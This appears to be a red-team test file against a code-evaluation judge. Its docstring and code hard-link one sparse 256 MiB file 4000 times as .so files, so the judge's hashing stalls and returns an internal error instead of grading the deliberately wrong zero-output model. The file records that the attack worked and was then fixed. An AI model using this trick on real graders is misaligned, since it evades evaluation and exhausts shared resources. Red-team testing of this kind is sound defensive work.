"""Attack: make the judge hash terabytes (19_ReLU) -- survives the pending library_hash() fix.

After the build the judge hashes every *.so in the candidate's entry (build_cache_record ->
libraries_in -> sha256_file, reading each whole file into memory, no deadline), and again
before every later evaluation of the same source (build_cache_verify in start_runners). The
working tree's fix refuses symlinks, FIFOs and files >= 4 GiB, but hard links are regular
files: the candidate writes one 256 MiB file (under RLIMIT_FSIZE) and links it N times as
*.so inside its own entry (same mount, no REFER crossing). Disk cost 256 MiB; the judge reads
N x 256 MiB. With N = 4000 that is 1 TiB: the judge is stuck for the whole backstop and the
verdict is internal_error; a `kbv run` worker is stuck twice (build phase, then evaluation).
Returns zeros (wrong).
Verdict kbv gave (--compile-timeout 10 --run-timeout 10, N = 4000): internal_error,
"kbv-judge did not finish within the evaluation's limits ... in stage 'build'". WORKED.

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the judge hashes each inode once and at most 8 GiB in all; anything it cannot hash
empties the entry. kbv must conclude: the candidate's own outcome within its limits.
"""
import os
import re

import torch
import torch.nn as nn

N = 4000
for line in open("/proc/self/mountinfo"):
    p = line.split()[4]
    if re.search(r"/builds/[0-9a-f]{16}$", p):
        base = os.path.join(p, "big.so")
        with open(base, "wb") as f:
            f.truncate(256 << 20)  # sparse: costs no disk, reads as 256 MiB of zeros
        for i in range(N):
            os.link(base, os.path.join(p, f"l{i}.so"))
        print(f"ATTACK judge_hash_hardlinks: {N} links to a 256 MiB file", flush=True)


class ModelNew(nn.Module):
    def __init__(self, *init_inputs):
        super().__init__()

    def forward(self, x):
        return torch.zeros_like(x)  # wrong
